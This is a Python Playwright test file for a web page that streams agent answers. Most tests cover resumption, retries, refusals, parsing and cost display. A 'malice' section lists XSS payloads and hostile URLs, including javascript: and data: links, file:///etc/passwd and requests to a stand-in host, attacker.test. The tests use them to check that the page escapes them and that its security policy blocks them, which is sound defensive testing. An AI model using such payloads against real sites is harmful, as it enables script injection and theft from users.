"""The page against a server and texts that mean it no good: cut, late, repeated, refused, unreadable, malicious."""

import asyncio
import json
import re

import pytest

from tests.examples.page.conftest import UNTESTED, Reader
from tests.examples.page.fake_api import (
    Cut,
    FakeApi,
    Raw,
    Refuse,
    agent,
    completed,
    event,
    started,
    token,
)

expect = pytest.importorskip("playwright.async_api", reason=f"{UNTESTED}: no playwright").expect
pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session")]


async def problem_of(reader: Reader) -> str:
    """What the reader is told when there is no answer."""
    await reader.finished()
    return await reader.page.locator(".problem").inner_text()


# ------------------------------------------------------------------------------------------------ connections


@pytest.mark.parametrize("way", ["aborted", "ended"])
async def test_a_broken_stream_is_resumed(reader: Reader, api: FakeApi, way: str) -> None:
    """The same request again with the id of the last event; what comes twice is shown once, and nothing is lost."""
    broken = [started(), token(2, "One "), token(3, "two ")]
    api.scripts = [
        [*broken, Cut] if way == "aborted" else broken,
        [token(3, "two "), token(4, "three."), completed(5, "")],
    ]
    await reader.enter()
    await reader.ask("Count.")
    assert await reader.finished() == "Answer complete. Cost: $0.001."
    await expect(reader.page.locator(".answer")).to_have_text("One two three.")
    assert [one.last_event_id for one in api.asked] == [None, "run_1:3"]
    assert api.asked[0].body == api.asked[1].body
    reader.faults = [fault for fault in reader.faults if "net::ERR_INCOMPLETE_CHUNKED_ENCODING" not in fault]


async def test_a_busy_server_is_asked_again_when_it_says(reader: Reader, api: FakeApi) -> None:
    """A refused resumption is no end of the run: it is tried again, not before the server's Retry-After."""
    busy = Refuse(503, headers={"Retry-After": "1"})
    api.scripts = [[started(), token(2, "One ")], busy, busy, [token(3, "two."), completed(4, "One two.")]]
    await reader.enter()
    began = asyncio.get_running_loop().time()
    await reader.ask("Count.")
    await expect(reader.page.locator("#status")).to_have_text(re.compile(r"Trying again in \d s"))
    await reader.finished()
    assert asyncio.get_running_loop().time() - began >= 2
    await expect(reader.page.locator(".answer")).to_have_text("One two.")
    assert [one.last_event_id for one in api.asked] == [None, "run_1:2", "run_1:2", "run_1:2"]
    reader.expect_refusals()


async def test_resuming_ends_after_some_attempts(reader: Reader, api: FakeApi) -> None:
    """A server that stays away is given up: six connections, then what there is and why there is no more."""
    api.scripts = [[started(), token(2, "Half an ans")], *[[] for _ in range(9)]]
    await reader.page.clock.install()
    await reader.enter()
    await reader.ask("What?")
    while await reader.page.locator("#send:disabled").count():
        await reader.page.clock.run_for(2_000)
    assert "The connection ended before the answer did." in await problem_of(reader)
    await expect(reader.page.locator(".answer")).to_have_text("Half an ans(The answer ends here.)")
    assert len(api.asked) == 6


@pytest.mark.parametrize("script", [[], [b": nothing yet\n\n"]])
async def test_what_never_began_is_not_asked_twice(reader: Reader, api: FakeApi, script: list[bytes]) -> None:
    """Without an id there is nothing to resume, and asking again might be paid again: the reader decides."""
    api.scripts = [script, [started(), completed(2, "Paid twice.")]]
    await reader.enter()
    await reader.ask("What?")
    assert "The connection ended before the answer did." in await problem_of(reader)
    assert len(api.asked) == 1
    await expect(reader.page.get_by_label("Question")).to_have_value("What?")


async def test_another_run_is_not_taken_for_this_one(reader: Reader, api: FakeApi) -> None:
    """A server that cannot resume and begins anew is left at once, instead of showing two answers in one."""
    api.scripts = [
        [started(), token(2, "Mine ")],
        [started("run_2"), token(2, "other", "run_2"), asyncio.Event()],
    ]
    await reader.enter()
    await reader.ask("What?")
    assert "could not resume this run" in await problem_of(reader)
    await expect(reader.page.locator(".answer")).not_to_contain_text("other")


async def test_a_silent_connection_is_resumed(reader: Reader, api: FakeApi) -> None:
    """No byte in 45 seconds, not even a comment, is a dead connection; comments keep it alive."""
    beat, end = asyncio.Event(), asyncio.Event()
    api.scripts = [
        [started(), token(2, "One "), beat, b": still here\n\n", end],
        [token(3, "two."), completed(4, "One two.")],
    ]
    clock = reader.page.clock
    await clock.install()
    await reader.enter()
    await reader.ask("What?")
    await expect(reader.page.locator("#status")).to_have_text("The agent has begun …")
    await clock.run_for(40_000)
    beat.set()
    await asyncio.sleep(0.3)  # until the comment has arrived, which nothing on the page shows
    await clock.run_for(40_000)
    assert len(api.asked) == 1
    await clock.run_for(6_000)
    await reader.finished()
    assert [one.last_event_id for one in api.asked] == [None, "run_1:2"]
    await expect(reader.page.locator(".answer")).to_have_text("One two.")
    end.set()


async def test_watching_can_be_stopped(reader: Reader, api: FakeApi) -> None:
    """The connection is closed, the reader is told that the agent may go on, and may ask again."""
    api.scripts = [
        [started(), token(2, "One "), asyncio.Event()],
        [started("run_2"), completed(2, "Two.", "run_2")],
    ]
    await reader.enter()
    await reader.ask("What?")
    await expect(reader.page.locator(".answer")).to_have_text("One")
    stop = reader.page.get_by_role("button", name="Stop watching")
    await stop.focus()
    await reader.page.keyboard.press("Enter")
    assert "You stopped watching." in await problem_of(reader)
    await expect(reader.page.get_by_role("button", name="Ask", exact=True)).to_be_focused()
    await expect(stop).to_be_hidden()
    await reader.ask("And?")
    await reader.finished()
    await expect(reader.page.locator(".answer").last).to_have_text("Two.")


# ---------------------------------------------------------------------------------------------------- refusals


async def test_a_failed_run_tells_why_and_what_it_cost(reader: Reader, api: FakeApi) -> None:
    """An `error` event is the end; its cost counts, and the question is not lost."""
    problem = {
        "type": "about:blank",
        "title": "Bad Gateway",
        "status": 502,
        "detail": "The search service failed.",
        "correlation_id": "abc-123",
        "cost_usd": "0.003",
    }
    api.scripts = [[started(), token(2, "Half"), event(3, "error", problem), token(4, " and more")]]
    await reader.enter()
    await reader.ask("What?")
    told = await problem_of(reader)
    assert [
        part in told for part in ("Bad Gateway.", "The search service failed.", "Cost: $0.003", "abc-123")
    ] == [True] * 4
    await expect(reader.page.locator(".answer")).to_have_text("Half(The answer ends here.)")
    await expect(reader.page.locator("#session-cost")).to_have_text("$0.003")
    await expect(reader.page.get_by_label("Question")).to_have_value("What?")
    assert len(api.asked) == 1


@pytest.mark.parametrize(
    ("refusal", "told"),
    [
        (
            Refuse(422, "Wrong.", more={"errors": [{"loc": ["body", "message"], "msg": "Too long."}]}),
            "message: Too long.",
        ),
        (Refuse(429, "Used up.", {"Retry-After": "30"}), "Used up. Try again in 30 s."),
        (Refuse(402, "The budget is spent.", more={"cost_usd": "0"}), "The budget is spent."),
        (Refuse(503, "Busy."), "Busy."),
    ],
)
async def test_a_refusal_is_told_and_not_repeated(
    reader: Reader, api: FakeApi, refusal: Refuse, told: str
) -> None:
    """What the problem says is said: the reason, the field, when to come back."""
    api.scripts = [refusal]
    await reader.enter()
    await reader.ask("What?")
    assert told in await problem_of(reader)
    assert len(api.asked) == 1
    reader.expect_refusals()


@pytest.mark.parametrize(
    "script",
    [
        Raw("<h1>It works</h1>"),
        [started(), b"event: token\ndata: {oops\nid: run_1:2\n\n"],
        [started(), b"event: token\ndata: 3\nid: run_1:2\n\n"],
        [started(), b"data: " + b"x" * 9_000_000],
    ],
    ids=["html", "no json", "no object", "endless"],
)
async def test_what_cannot_be_read_ends_the_run(reader: Reader, api: FakeApi, script) -> None:
    """A proxy's page, broken JSON and an event without end are told as such; asking again would not help."""
    api.scripts = [script]
    await reader.enter()
    await reader.ask("What?")
    assert "The server" in await problem_of(reader)
    assert len(api.asked) == 1


async def test_an_unreachable_server_is_told(reader: Reader, api: FakeApi) -> None:
    """Neither a silent page nor a stack trace, and the question stays."""
    await reader.enter()
    await reader.page.route("**/v1/agents/**", lambda route: route.abort())
    await reader.ask("What?")
    assert "broke" in await problem_of(reader)
    await expect(reader.page.get_by_label("Question")).to_have_value("What?")
    reader.expect_refusals()


# ------------------------------------------------------------------------------------------------------ framing


async def test_framing_does_not_matter(reader: Reader, api: FakeApi) -> None:
    """Line ends of all three kinds, comments, unknown events and fields, several data lines, bytes one by one."""
    text = "gr\u00fc\u00dfe \U0001f44b"
    whole = b"".join(
        [
            b"\xef\xbb\xbf: hello\n\nretry: 10\n",
            started().replace(b"\n", b"\r\n"),
            b"event: unheard.of\ndata: {}\nid: run_1:2\n\n",
            b'event:token\rdata:{"text":\rdata: '
            + json.dumps(text, ensure_ascii=False).encode()
            + b"}\rid: run_1:3\r\r",
            b"event: token\nid: run_1:4\n\n",
            completed(5, f"{text} done"),
        ]
    )
    api.scripts = [[whole[at : at + 1] for at in range(len(whole))]]
    await reader.enter()
    await reader.ask("What?")
    await reader.finished()
    await expect(reader.page.locator(".answer")).to_have_text(f"{text} done")


async def test_events_are_the_same_wherever_the_text_is_cut(reader: Reader) -> None:
    """Every way to cut a stream in two or three gives the same events."""
    stream = "event: a\r\ndata: 1\r\ndata: 2\r\nid: r:1\r\n\r\n:c\r\rdata\n\ndata: 3\r\r\nid: x\x00\nevent: b\rdata:  4\n\n"
    found = await reader.page.evaluate(
        """async (stream) => {
          const { EventParser } = await import("/page/stream.js");
          const read = (...pieces) => {
            const parser = new EventParser();
            return JSON.stringify(pieces.flatMap((piece) => parser.push(piece)));
          };
          const seen = new Set();
          for (let a = 0; a <= stream.length; a += 1) {
            for (let b = a; b <= stream.length; b += 1) {
              seen.add(read(stream.slice(0, a), stream.slice(a, b), stream.slice(b)));
            }
          }
          return [...seen];
        }""",
        stream,
    )
    assert [json.loads(one) for one in found] == [
        [
            {"name": "a", "id": "r:1", "data": "1\n2"},
            {"name": "message", "id": "r:1", "data": ""},
            {"name": "message", "id": "r:1", "data": "3"},
            {"name": "b", "id": "r:1", "data": " 4"},
        ]
    ]


async def test_money_is_exact(reader: Reader) -> None:
    """Amounts that floating-point numbers get wrong are added and shown digit by digit."""
    found = await reader.page.evaluate(
        """async () => {
          const { nano, shown, usd } = await import("/page/money.js");
          return {
            sum: usd(nano("0.1") + nano("0.2")),
            large: usd(nano("123456789012345.123456789")),
            shown: ["0", "5", "1.5", "0.000000001", "-0.25"].map(shown),
            none: ["", "1,5", "1e3", "0.0000000001", "NaN", 3, null, undefined, " "].map(nano),
            trimmed: shown(" 2.50 "),
          };
        }"""
    )
    assert found == {
        "sum": "0.3",
        "large": "123456789012345.123456789",
        "shown": ["$0.00", "$5.00", "$1.50", "$0.000000001", "\u2212$0.25"],
        "none": [None] * 9,
        "trimmed": "$2.50",
    }


async def test_limits_are_read_from_the_headers(reader: Reader) -> None:
    """Several policies, names with quotes in them, and nonsense."""
    cases = {
        '"default";r=99;t=60': [{"name": "default", "left": 99, "limit": 600, "seconds": 60}],
        '"a";r=1, "default";r=0': [
            {"name": "a", "left": 1, "limit": None, "seconds": None},
            {"name": "default", "left": 0, "limit": 600, "seconds": None},
        ],
        '"say \\"hi\\"";t=5;r=2;pk=:YQ==:': [{"name": 'say "hi"', "left": 2, "limit": None, "seconds": 5}],
        "default;r=1": [],
        '"x";t=5': [],
        "": [],
    }
    found = await reader.page.evaluate(
        """async (cases) => {
          const { rateLimits } = await import("/page/api.js");
          return cases.map((value) => rateLimits(new Headers({ RateLimit: value, "RateLimit-Policy": '"default";q=600;w=60' })));
        }""",
        list(cases),
    )
    assert found == list(cases.values())


# ----------------------------------------------------------------------------------------------------- malice

ATTACKS = [
    "<img src=x onerror=\"window.pwned='image'\">",
    "<script>window.pwned='script'</script>",
    "</p><svg onload=\"window.pwned='svg'\"><a href='javascript:window.pwned=1'>x</a>",
    "[click](javascript:window.pwned='link')",
    "<iframe srcdoc=\"<script>parent.pwned='frame'</script>\"></iframe>",
    "<style>body{display:none}</style><base href='https://attacker.test/'>",
    "{{constructor.constructor('window.pwned=1')()}}",
]
URLS = [
    "javascript:window.pwned='url'",
    " JaVaScRiPt:window.pwned='url'",
    "java\nscript:window.pwned='url'",
    "data:text/html,<script>window.pwned='data'</script>",
    "vbscript:x",
    "file:///etc/passwd",
    "//attacker.test/x",
    "https://bank.test@attacker.test/",
    "https://",
    "blob:https://attacker.test/x",
]


async def test_hostile_texts_are_shown_as_texts(reader: Reader, api: FakeApi) -> None:
    """Markup in every place a source can write to stays markup to read: no element, no request, no code."""
    attack = "\n\n".join(
        [*ATTACKS, "# " + ATTACKS[0], "- " + ATTACKS[1], f"`{ATTACKS[2]}`", f"**{ATTACKS[0]}**"]
    )
    citations = [
        {"n": n, "url": url, "title": ATTACKS[n % len(ATTACKS)], "excerpt": attack}
        for n, url in enumerate(URLS, start=1)
    ]
    citations += [{"n": "<b>", "url": ATTACKS[0], "title": ATTACKS[0]}, {"n": -1, "url": None}, {"n": 1e99}]
    more = {
        "citations": citations,
        "claims": [{"claim": attack, "verdict": ATTACKS[0], "basis": attack, "confidence": ATTACKS[0]}],
        "findings": [{"statement": attack}],
        "not_found": [attack],
        "engine": ATTACKS[0],
        "run_id": ATTACKS[0],
    }
    api.agents = [agent('search"><img src=x>', description=ATTACKS[0], example=ATTACKS[0])]
    api.budgets = [{"id": ATTACKS[0], "limit_usd": "1", "spent_usd": ATTACKS[0], "resets_at": ATTACKS[0]}]
    api.rows = [{"group": {"agent": ATTACKS[0]}, "cost_usd": ATTACKS[0], "operations": ATTACKS[0]}]
    api.documents = {"d": {"id": "d", "title": ATTACKS[0], "source_url": URLS[0], "created_at": ATTACKS[0]}}
    api.sessions = [{"id": "../../v1/agents", "title": ATTACKS[0], "agent": ATTACKS[0]}]
    numbers = " ".join(f"[{n}]" for n in range(1, len(URLS) + 1))
    steps = event(2, "tool.started", {"tool": ATTACKS[0], "arguments": {"q": ATTACKS[0]}})
    failed = event(
        2, "error", {"title": ATTACKS[0], "detail": attack, "status": 502, "correlation_id": ATTACKS[0]}, "r2"
    )
    api.scripts = [
        [started(), steps, token(3, attack), completed(4, f"{attack}\n\n{numbers}", **more)],
        [started("r2"), failed],
    ]
    page = reader.page
    await reader.enter()
    for panel in ("usage", "documents", "sessions"):
        await page.locator(f"#{panel}-panel summary").click()
    await reader.ask(ATTACKS[0])
    await reader.finished()
    await reader.ask(ATTACKS[1])
    await reader.finished()
    await expect(page.locator("#documents .entry")).to_have_count(1)
    assert await page.locator("img, svg, iframe, base, style, script:not([src])").count() == 0
    await expect(page.locator(".answer p").first).to_have_text(ATTACKS[0])
    # Links lead to places in the page only: not one of these URLs is one that a reader should follow.
    hrefs = await page.locator("main a").evaluate_all("all => all.map((one) => one.getAttribute('href'))")
    assert len(hrefs) >= len(URLS)
    assert [href for href in hrefs if not re.fullmatch(r"#exchange-\d+-source-\d+", href)] == []
    for link in await page.locator(".cite").all():
        await link.click()
    assert page.url.startswith(f"{api.url}/#exchange-")


async def test_the_policy_would_stop_what_the_script_let_through(reader: Reader) -> None:
    """The second line of defence holds by itself: no inline code, no sink, no request to elsewhere, no policy of one's own."""
    stopped = await reader.page.evaluate(
        """async () => {
          const thrown = (action) => { try { action(); return false; } catch (error) { return error instanceof TypeError; } };
          const sink = thrown(() => (document.body.innerHTML = "<p>x</p>"));
          const policy = thrown(() => trustedTypes.createPolicy("mine", { createHTML: (text) => text }));
          const script = document.createElement("script");
          const text = thrown(() => (script.text = "window.pwned = 1"));
          const address = thrown(() => (script.src = "https://attacker.test/x.js"));
          const style = document.createElement("style");
          style.textContent = "body { display: none }";
          document.head.append(style);
          const hidden = getComputedStyle(document.body).display === "none";
          const request = await fetch("https://attacker.test/").then(() => "sent", () => "refused");
          await new Promise((resolve) => setTimeout(resolve, 50));
          const seen = [...new Set(window.violations.map((one) => one.split(" ")[0]))].sort();
          window.violations = [];
          return { sink, policy, text, address, hidden, request, seen };
        }"""
    )
    seen = ["connect-src", "require-trusted-types-for", "style-src-elem", "trusted-types"]
    assert stopped == {
        "sink": True,
        "policy": True,
        "text": True,
        "address": True,
        "hidden": False,
        "request": "refused",
        "seen": seen,
    }
    # Chromium tells each of these in the console: that is what this test provoked.
    assert reader.faults
    reader.faults.clear()
    reader.requests[:] = [one for one in reader.requests if "attacker.test" not in one]
